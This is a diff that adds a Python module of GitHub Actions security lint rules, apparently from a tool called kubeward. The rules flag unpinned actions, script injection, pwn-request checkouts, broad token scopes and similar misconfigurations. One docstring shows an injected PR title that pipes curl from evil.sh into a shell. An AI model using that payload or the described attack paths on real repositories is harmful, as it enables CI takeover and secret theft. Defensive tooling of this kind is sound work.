@@ -1,0 +1,522 @@
+"""GitHub Actions hygiene (layer 2): pinning, injection, triggers, token scope, runners."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from kubeward.model.image import parse_image
+from kubeward.model.workflow import (
+    PR_TRIGGERS,
+    PRIVILEGED_TRIGGERS,
+    Job,
+    Step,
+    Uses,
+    Workflow,
+    expressions,
+)
+from kubeward.parse.yamlnode import YNode
+from kubeward.registry import Finding, Layer, Related, Severity, rule
+
+GHA_SECURITY = "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+
+# Contexts whose value whoever opens an issue, PR, comment, review or commit chooses.
+ATTACKER_CONTROLLED = re.compile(
+    r"^(?:github\.head_ref"
+    r"|github\.event\.(?:"
+    r"issue\.(?:title|body)"
+    r"|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))"
+    r"|(?:comment|review|review_comment|discussion|discussion_comment)\.body"
+    r"|discussion\.title"
+    r"|pages\.[^.\s]+\.page_name"
+    r"|(?:commits\.[^.\s]+|head_commit|workflow_run\.head_commit|merge_group\.head_commit)"
+    r"\.(?:message|author\.(?:email|name)|committer\.(?:email|name))"
+    r"|workflow_run\.(?:head_branch|display_title|pull_requests\.[^.\s]+\.head\.ref)"
+    r"))$"
+)
+_CTX_RE = re.compile(r"github\.[A-Za-z0-9_.*\[\]'\"-]+")
+
+
+def attacker_contexts(expr: str) -> list[str]:
+    """The attacker-controllable contexts an expression reads (index syntax normalised)."""
+    out = []
+    for m in _CTX_RE.finditer(expr):
+        ctx = re.sub(r"\[['\"]([^'\"]+)['\"]\]", r".\1", m.group(0)).rstrip(".")
+        ctx = re.sub(r"\[\d+\]|\[\*\]", ".*", ctx)
+        if ATTACKER_CONTROLLED.match(ctx):
+            out.append(ctx)
+    return out
+
+
+@rule(
+    id="action-not-pinned-to-sha",
+    layer=Layer.BUILD,
+    severity=Severity.HIGH,
+    references=(
+        GHA_SECURITY + "#using-third-party-actions",
+        "https://slsa.dev/spec/v1.0/threats#e-compromise-build-process",
+    ),
+)
+def action_not_pinned_to_sha(wf: Workflow) -> Iterator[Finding]:
+    """Action or reusable workflow is not pinned to a full commit SHA.
+
+    A tag (`@v4`) or a branch (`@main`) is a pointer the action's owner, or whoever takes over
+    their account, can move to new code that then runs with your token and secrets. Only a full
+    40-hex commit SHA is immutable. Local actions (`./path`) come from your own repository and
+    are exempt; `docker://` actions must name an image digest.
+
+    ## Why it matters
+    Moved tags are how tj-actions/changed-files (CVE-2025-30066) leaked the secrets of
+    thousands of repositories: every workflow using `@v35` ran the attacker's commit.
+
+    ## Remediation
+    Pin the SHA the tag points to and keep the tag as a comment, so Dependabot or Renovate can
+    update both:
+
+        - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
+
+    ## Example
+        # bad
+        - uses: actions/checkout@v4
+        # good
+        - uses: ./.github/actions/setup
+    """
+    uses: list[Uses] = [j.uses for j in wf.jobs if j.uses is not None]
+    uses += [s.uses for j in wf.jobs for s in j.steps if s.uses is not None]
+    for u in uses:
+        if u.span is None or u.kind == "local":
+            continue
+        if u.kind == "docker":
+            ref = parse_image(u.path)
+            if ref.templated or ref.digest is not None:
+                continue
+            yield Finding(
+                u.span,
+                f"{u.text} is not pinned to an image digest; use docker://IMAGE@sha256:<digest>",
+            )
+            continue
+        if "${{" in u.text:
+            continue
+        if (
+            u.path.startswith(".github/workflows/generator_")
+            and u.owner == "slsa-framework"
+            and (re.fullmatch(r"v\d+\.\d+\.\d+", u.ref or ""))
+        ):
+            continue  # slsa-github-generator must be called by release tag (its verifier checks it)
+        if u.ref is None:
+            yield Finding(u.span, f"{u.text} names no ref; pin a full commit SHA")
+        elif not u.is_sha_pinned:
+            what = (
+                "a short SHA"
+                if re.fullmatch(r"[0-9a-f]{7,39}", u.ref)
+                else f"the mutable ref '{u.ref}'"
+            )
+            yield Finding(
+                u.span,
+                f"{u.text} uses {what}; pin a full 40-hex commit SHA (keep '# {u.ref}' as a comment)",
+            )
+
+
+def _shell_nodes(step: Step) -> Iterator[tuple[YNode, str]]:
+    """Scalars that are executed as code: `run:`, and github-script's `script:` input."""
+    if step.run is not None and step.run.is_scalar:
+        yield step.run, "run:"
+    if step.uses is not None and step.uses.is_action("actions/github-script"):
+        script = step.input("script")
+        if script is not None and script.is_scalar:
+            yield script, "actions/github-script script:"
+
+
+@rule(
+    id="template-injection",
+    layer=Layer.BUILD,
+    severity=Severity.CRITICAL,
+    references=(
+        GHA_SECURITY + "#understanding-the-risk-of-script-injections",
+        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
+    ),
+)
+def template_injection(wf: Workflow) -> Iterator[Finding]:
+    """Attacker-controllable context expanded inline in a script.
+
+    `${{ }}` is substituted into the script text before the shell (or github-script's
+    JavaScript) parses it. An issue title, PR title or body, branch name, comment or commit
+    message is chosen by whoever opens it, so a title such as `"; curl evil.sh | sh; #` becomes
+    code running with the job's token and secrets. Passing the value through `env:` and quoting
+    the variable (`"$TITLE"`) keeps it data, and is not flagged.
+
+    ## Why it matters
+    Script injection through PR titles and branch names is the most common way public
+    workflows are taken over; on `pull_request_target` and `issue_comment` it runs with a write
+    token and secrets.
+
+    ## Remediation
+    Move the value into an environment variable and reference it quoted:
+
+        - env:
+            TITLE: ${{ github.event.pull_request.title }}
+          run: echo "$TITLE"
+    """
+    for job in wf.jobs:
+        for step in job.steps:
+            for node, where in _shell_nodes(step):
+                for e in expressions(wf.file, node):
+                    for ctx in attacker_contexts(e.text):
+                        yield Finding(
+                            e.span,
+                            f"{ctx} is expanded into {where} of {step.label} in job {job.id}; "
+                            "pass it through env: and quote the variable",
+                            properties={"context": ctx},
+                        )
+
+
+_HEAD_REF = re.compile(
+    r"github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref"
+    r"|github\.event\.pull_request\.merge_commit_sha|github\.event\.workflow_run\.head_(?:sha|branch)"
+    r"|github\.event\.pull_request\.number|github\.event\.number"
+)
+_HEAD_RUN = re.compile(
+    r"\bgh\s+pr\s+checkout\b|git\s+fetch\b[^\n]*\bpull/|refs/pull/|git\s+(?:checkout|switch)\s+[^\n]*\$\{\{\s*github\.(?:head_ref|event\.(?:pull_request|workflow_run))"
+)
+
+
+@rule(
+    id="dangerous-trigger-checkout",
+    layer=Layer.BUILD,
+    severity=Severity.CRITICAL,
+    references=(
+        "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
+        "https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#pull_request_target",
+    ),
+)
+def dangerous_trigger_checkout(wf: Workflow) -> Iterator[Finding]:
+    """`pull_request_target` or `workflow_run` workflow checks out the untrusted head.
+
+    These triggers run in the base repository's context, with a write token and secrets, even
+    for pull requests from forks. Checking out the PR head (`ref: ${{ github.event.pull_request.head.sha }}`,
+    `gh pr checkout`, `refs/pull/N/merge`) and then building or testing it runs the fork's code
+    with those privileges: a "pwn request". A `pull_request_target` workflow that only labels
+    or comments, without the head's code, is not flagged.
+
+    ## Why it matters
+    Any GitHub user can open a pull request; the build scripts, tests and tool configuration
+    of the checked-out head then run with the repository's secrets.
+
+    ## Remediation
+    Build untrusted code under `pull_request` (no secrets, read-only token) and pass results to
+    a privileged `workflow_run` workflow as data (artifacts you parse, never execute). If the
+    head must be checked out, do not run anything from it and set `persist-credentials: false`.
+    """
+    triggers = [t for t in PRIVILEGED_TRIGGERS if wf.has_trigger(t)]
+    if wf.is_action or not triggers:
+        return
+    trig = wf.triggers[triggers[0]]
+    related = (Related(trig.span, f"triggered by {triggers[0]}"),) if trig is not None else ()
+    for job in wf.jobs:
+        for step in job.steps:
+            if step.uses is not None and step.uses.is_action("actions/checkout"):
+                for key in ("ref", "repository"):
+                    n = step.input(key)
+                    if n is None or not n.is_scalar:
+                        continue
+                    text = n.text or ""
+                    if (
+                        _HEAD_REF.search(text)
+                        or "refs/pull/" in text
+                        or (key == "repository" and "head.repo" in text)
+                    ):
+                        yield Finding(
+                            n.span,
+                            f"job {job.id} checks out the untrusted head ({key}: {text.strip()}) "
+                            f"in a {triggers[0]} workflow",
+                            related=related,
+                        )
+                        break
+            elif step.run is not None and (m := _HEAD_RUN.search(step.run_text)):
+                span = wf.file.find_span(
+                    m.group(0).split("\n")[0],
+                    first_line=step.run.start.line,
+                    last_line=step.run.end.line,
+                )
+                yield Finding(
+                    span,
+                    f"job {job.id} fetches the untrusted pull request head in a {triggers[0]} workflow",
+                    related=related,
+                )
+
+
+@rule(
+    id="missing-token-permissions",
+    layer=Layer.BUILD,
+    severity=Severity.MEDIUM,
+    references=(
+        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication#permissions-for-the-github_token",
+    ),
+)
+def missing_token_permissions(wf: Workflow) -> Iterator[Finding]:
+    """Workflow declares no `permissions:`, so its jobs get the default token scope.
+
+    Without a `permissions:` block the `GITHUB_TOKEN` gets the repository's or organisation's
+    default, which is read-write on every scope for repositories created before February 2023
+    and for many organisations. A job without its own block and a workflow without a top-level
+    one leaves that decision to a setting nobody reviews with the code.
+
+    ## Why it matters
+    Any step compromised in such a job (an action, a dependency, an injected script) can push
+    commits, publish releases and packages, and rewrite workflows with the token.
+
+    ## Remediation
+    Start from nothing at the top and grant each job what it needs:
+
+        permissions: {}
+        jobs:
+          build:
+            permissions:
+              contents: read
+    """
+    if wf.is_action or wf.permissions is not None:
+        return
+    bare = [j for j in wf.jobs if j.permissions is None]
+    if not bare:
+        return
+    key = wf.node.key_node("jobs")
+    span = key.span if key is not None else wf.on_span
+    names = ", ".join(j.id for j in bare)
+    yield Finding(
+        span,
+        f"no permissions: at workflow level and none on job(s) {names}: they run with the "
+        "default GITHUB_TOKEN scope (possibly write-all)",
+        related=tuple(Related(j.name_span, f"job {j.id} has no permissions:") for j in bare[:5]),
+    )
+
+
+# Steps that use the OIDC token or push packages (conservative: any third-party action may).
+_OIDC_RUN = re.compile(
+    r"\bcosign\b|ACTIONS_ID_TOKEN_REQUEST|--provenance|\bgetIDToken\b|sigstore|\bnpm\s+publish"
+)
+_PUSH_RUN = re.compile(
+    r"\b(?:docker|podman|buildah|helm|crane|oras|skopeo)\b[^\n]*\b(?:push|login|copy|cp|publish)\b|\bko\b\s+(?:build|publish|resolve|apply)|ghcr\.io|npm\s+publish|\bgh\b|dotnet\s+nuget\s+push|mvn\b[^\n]*deploy|gradle\b[^\n]*publish"
+)
+
+
+def _only_plain_steps(job: Job) -> bool:
+    """A job whose steps are `run:` scripts and GitHub's own basic actions (none of which
+    reach for an OIDC token or a package registry by themselves)."""
+    if job.uses is not None:
+        return False
+    for s in job.steps:
+        if s.uses is None:
+            continue
+        a = s.uses.action
+        if (
+            s.uses.kind != "repo"
+            or not a.startswith("actions/")
+            or a.startswith(("actions/attest", "actions/github-script"))
+        ):
+            return False
+    return True
+
+
+@rule(
+    id="excessive-permissions",
+    layer=Layer.BUILD,
+    severity=Severity.HIGH,
+    references=(
+        "https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#permissions",
+    ),
+)
+def excessive_permissions(wf: Workflow) -> Iterator[Finding]:
+    """Token permissions broader than the job needs: `write-all`, or a write it never uses.
+
+    `permissions: write-all` grants every scope. `id-token: write` lets any step mint an OIDC
+    token for cloud roles and keyless signing; `packages: write` lets any step publish packages.
+    A job whose steps are only `run:` scripts and GitHub's basic `actions/*` and that neither
+    signs, attests, logs in to a registry nor pushes does not need those two (jobs calling
+    other actions are given the benefit of the doubt).
+
+    ## Why it matters
+    The token's scope is the blast radius of any compromised step in the job.
+
+    ## Remediation
+    Grant per job only what it uses:
+
+        permissions:
+          contents: read
+    """
+    scopes: list[tuple[YNode, str]] = []
+    if wf.permissions is not None:
+        scopes.append((wf.permissions, "workflow"))
+    scopes += [(j.permissions, f"job {j.id}") for j in wf.jobs if j.permissions is not None]
+    for node, where in scopes:
+        if node.is_scalar and (node.text or "").strip() == "write-all":
+            yield Finding(
+                node.span, f"{where} grants write-all: every scope of the GITHUB_TOKEN is writable"
+            )
+    for job in wf.jobs:
+        perms = job.permissions
+        if perms is None or not perms.is_map or not _only_plain_steps(job):
+            continue
+        run = "\n".join(s.run_text for s in job.steps)
+        for scope, pattern in (("id-token", _OIDC_RUN), ("packages", _PUSH_RUN)):
+            v = perms.get(scope)
+            if v is not None and (v.text or "").strip() == "write" and not pattern.search(run):
+                yield Finding(v.span, f"job {job.id} grants {scope}: write but no step uses it")
+
+
+@rule(
+    id="secrets-inherit",
+    layer=Layer.BUILD,
+    severity=Severity.MEDIUM,
+    references=(
+        "https://docs.github.com/en/actions/sharing-automations/reusing-workflows#passing-inputs-and-secrets-to-a-reusable-workflow",
+    ),
+)
+def secrets_inherit(job: Job) -> Iterator[Finding]:
+    """Reusable workflow is called with `secrets: inherit`.
+
+    `inherit` hands every secret of the calling repository (and organisation) to the called
+    workflow, whatever it needs. A change to that workflow, or to any action it calls, can then
+    read all of them.
+
+    ## Why it matters
+    Least privilege for secrets: the blast radius of the called workflow becomes every secret
+    you hold, not the one or two it uses.
+
+    ## Remediation
+    Pass the secrets the workflow declares, by name:
+
+        uses: ./.github/workflows/deploy.yml
+        secrets:
+          DEPLOY_TOKEN: ${{ secrets.DEPLOY_TOKEN }}
+    """
+    s = job.node.get("secrets")
+    if (
+        job.uses is not None
+        and s is not None
+        and s.is_scalar
+        and (s.text or "").strip() == "inherit"
+    ):
+        yield Finding(s.span, f"job {job.id} passes every secret to {job.uses.text}")
+
+
+_UPLOADS = ("actions/upload-artifact", "actions/upload-pages-artifact")
+
+
+@rule(
+    id="persisted-checkout-credentials",
+    layer=Layer.BUILD,
+    severity=Severity.MEDIUM,
+    references=(
+        "https://github.com/actions/checkout#usage",
+        "https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/",
+    ),
+)
+def persisted_checkout_credentials(job: Job) -> Iterator[Finding]:
+    """Checkout keeps its token in `.git/config` in a job that uploads artifacts.
+
+    `actions/checkout` writes the `GITHUB_TOKEN` into `.git/config` unless
+    `persist-credentials: false`. When the job then uploads the workspace (or part of it that
+    includes `.git`) as an artifact, anyone who can download artifacts gets the token
+    ("ArtiPACKED"). Jobs that upload nothing are not flagged.
+
+    ## Why it matters
+    Artifacts of public repositories are public; a leaked token is valid until the job ends
+    and can push to the repository.
+
+    ## Remediation
+        - uses: actions/checkout@<sha> # v4
+          with:
+            persist-credentials: false
+    """
+    uploads = [s for s in job.steps if s.uses is not None and s.uses.is_action(*_UPLOADS)]
+    if not uploads:
+        return
+    for s in job.steps:
+        if s.uses is None or not s.uses.is_action("actions/checkout") or s.uses.span is None:
+            continue
+        if s.index > uploads[-1].index:
+            continue
+        p = s.input("persist-credentials")
+        if p is not None and p.bool is False:
+            continue
+        up = uploads[-1]
+        yield Finding(
+            s.uses.span,
+            f"{s.label} persists the token in .git/config and job {job.id} uploads artifacts",
+            related=((Related(up.uses.span, "artifact uploaded here")),)
+            if up.uses and up.uses.span
+            else (),
+        )
+
+
+@rule(
+    id="self-hosted-runner-on-pr",
+    layer=Layer.BUILD,
+    severity=Severity.HIGH,
+    references=(GHA_SECURITY + "#hardening-for-self-hosted-runners",),
+)
+def self_hosted_runner_on_pr(job: Job) -> Iterator[Finding]:
+    """Self-hosted runner runs jobs triggered by pull requests.
+
+    A pull request (or a comment on one) from anyone runs code on the self-hosted machine.
+    Unlike GitHub-hosted runners, self-hosted ones are usually not ephemeral: the code can
+    persist on the machine, read other jobs' secrets and caches, and reach the internal network.
+
+    ## Why it matters
+    GitHub advises never to use self-hosted runners with public repositories; the same holds
+    for any workflow outsiders can trigger.
+
+    ## Remediation
+    Run pull-request jobs on GitHub-hosted runners, or on ephemeral, isolated self-hosted
+    runners (one VM per job, `--ephemeral`) in a runner group restricted to trusted workflows:
+
+        runs-on: ubuntu-24.04
+    """
+    wf = job.workflow
+    trig = [t for t in PR_TRIGGERS if wf.has_trigger(t)]
+    if wf.is_action or not trig or not job.is_self_hosted:
+        return
+    labels = job.runner_labels()
+    node = next((n for t, n in labels if t.lower() == "self-hosted"), labels[0][1])
+    yield Finding(
+        node.span,
+        f"job {job.id} runs on a self-hosted runner and is triggered by {sorted(trig)[0]}",
+    )
+
+
+def _truthy(n: YNode) -> bool:
+    return n.bool is True or (n.text or "").strip().lower() in ("true", "1", "yes")
+
+
+@rule(
+    id="insecure-commands-enabled",
+    layer=Layer.BUILD,
+    severity=Severity.HIGH,
+    references=(
+        "https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/",
+    ),
+)
+def insecure_commands_enabled(wf: Workflow) -> Iterator[Finding]:
+    """`ACTIONS_ALLOW_UNSECURE_COMMANDS` re-enables `set-env` and `add-path`.
+
+    The deprecated workflow commands let any text a step prints to its log set environment
+    variables and `PATH` for later steps. Anything that ends up in the log (a PR title, a
+    dependency's output) can then inject `LD_PRELOAD`, `NODE_OPTIONS` or a path to a hostile
+    binary.
+
+    ## Why it matters
+    GitHub disabled these commands in 2020 because of this injection (CVE-2020-15228).
+
+    ## Remediation
+    Remove the variable and write to `$GITHUB_ENV` and `$GITHUB_PATH` files instead:
+
+        run: echo "DIR=$PWD/bin" >> "$GITHUB_ENV"
+    """
+    envs: list[YNode] = [e for e in (wf.env, *(j.env for j in wf.jobs)) if e is not None]
+    envs += [s.env for j in wf.jobs for s in j.steps if s.env is not None]
+    for env in envs:
+        for k, v in env.items():
+            if k.is_scalar and k.value == "ACTIONS_ALLOW_UNSECURE_COMMANDS" and _truthy(v):
+                yield Finding(
+                    k.span, "ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables set-env and add-path"
+                )
